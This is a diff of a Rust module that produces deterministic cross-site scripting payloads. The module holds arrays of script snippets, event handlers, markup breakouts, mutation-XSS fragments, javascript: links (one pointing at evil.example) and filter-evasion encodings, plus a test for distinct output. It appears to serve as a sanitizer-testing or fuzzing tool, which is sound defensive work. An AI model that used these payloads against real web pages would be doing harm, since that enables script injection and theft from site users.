@@ -1,10 +1,11 @@
-//! Words that run a script wherever a page takes them for markup, for a link or for JavaScript.
+//! Payloads that run a script where a page interprets text as markup, as a link or as JavaScript.
 
 use std::collections::HashSet;
 
 use fastrand::Rng;
 
-/// What is run. Each leaves a trace: a dialog, the marker, or a request that nobody else makes.
+/// Script code. Each snippet is detectable: by a dialog, by the marker `pwned`, or by a request for
+/// `/stray`.
 const CODES: [&str; 20] = [
     "alert(1)",
     "prompt(1)",
@@ -101,7 +102,7 @@ const EVENTS: [&str; 32] = [
 ];
 const GAPS: [&str; 8] = [" ", " ", " ", "/", "\t", "\n", "\u{c}", " x='>' "];
 const QUOTES: [&str; 3] = ["", "\"", "'"];
-/// What ends the place that the words are in, and what follows them. `@` is the words.
+/// Text that leaves the surrounding markup, and text that follows the payload. `@` is the payload.
 const FRAMES: [&str; 28] = [
     "@",
     "@",
@@ -132,8 +133,8 @@ const FRAMES: [&str; 28] = [
     "{{@}}",
     "\u{2028}@\u{2029}",
 ];
-/// Markup that a parser reads in one way and, once written and read again, in another. `@` is an image that
-/// cannot be loaded, `!` is the script.
+/// Markup that parses differently after serializing and parsing again. `@` is an image that cannot
+/// be loaded, `!` is the script.
 const MUTATIONS: [&str; 32] = [
     "<noscript><p title=\"</noscript>@\">",
     "<math><mtext><table><mglyph><style><!--</style>@",
@@ -168,6 +169,7 @@ const MUTATIONS: [&str; 32] = [
     "<base href=javascript:/a/><a href=//!>x",
     "<a href=\"&#106;avascript&colon;!\">x",
 ];
+/// Link targets. `!` is the script.
 const LINKS: [&str; 20] = [
     "javascript:!",
     "JaVaScRiPt:!",
@@ -190,7 +192,7 @@ const LINKS: [&str; 20] = [
     "https://x/\"onclick=\"!",
     "https://user:!@evil.example/",
 ];
-/// Markdown around a link.
+/// Markdown with links. `@` is the link target.
 const MARKDOWN: [&str; 14] = [
     "[x](@)",
     "![x](@)",
@@ -208,12 +210,12 @@ const MARKDOWN: [&str; 14] = [
     "<div>\n\n[x](@)\n\n</div>",
 ];
 
-/// Gives so many payloads, no two alike; fewer of them are the first of more.
+/// Returns `n` distinct payloads. A smaller `n` returns a prefix of the same sequence.
 pub fn payloads(n: usize) -> Vec<String> {
-    let (mut rng, mut known, mut payloads) = (Rng::with_seed(1), HashSet::new(), Vec::new());
+    let (mut rng, mut seen, mut payloads) = (Rng::with_seed(1), HashSet::new(), Vec::new());
     while payloads.len() < n {
         let payload = payload(&mut rng);
-        if known.insert(payload.clone()) {
+        if seen.insert(payload.clone()) {
             payloads.push(payload);
         }
     }
@@ -254,12 +256,12 @@ fn pick<'a>(rng: &mut Rng, choices: &[&'a str]) -> &'a str {
     choices[rng.u64(..choices.len() as u64) as usize]
 }
 
-/// Spells a payload as one that is to get past a filter, or as it is.
+/// Encodes a payload in a way that may pass a filter, or returns it unchanged.
 fn encoded(rng: &mut Rng, payload: &str) -> String {
-    let each = |spell: fn(char) -> String| {
+    let each = |encode: fn(char) -> String| {
         let markup = |c| {
             if "<>\"'&=:".contains(c) {
-                spell(c)
+                encode(c)
             } else {
                 c.into()
             }
@@ -273,7 +275,7 @@ fn encoded(rng: &mut Rng, payload: &str) -> String {
         3 => each(|c| format!("%{:02X}", c as u32)),
         4 => each(|c| format!("\\u{:04x}", c as u32)),
         5 => each(|c| format!("\\x{:02x}", c as u32)),
-        // What a careless conversion makes the plain characters of: the wide ones.
+        // Full-width characters, which a careless conversion turns into ASCII.
         6 => each(|c| char::from_u32(c as u32 + 0xfee0).unwrap().into()),
         7 => payload.replace('<', "+ADw-").replace('>', "+AD4-"),
         8 => payload.replace('<', "&lt;").replace('>', "&gt;"),
@@ -292,7 +294,7 @@ fn encoded(rng: &mut Rng, payload: &str) -> String {
 }
 
 #[test]
-fn payloads_are_many_and_different() {
+fn payloads_are_distinct() {
     let payloads = payloads(20_000);
     assert_eq!(payloads.iter().collect::<HashSet<_>>().len(), 20_000);
 }
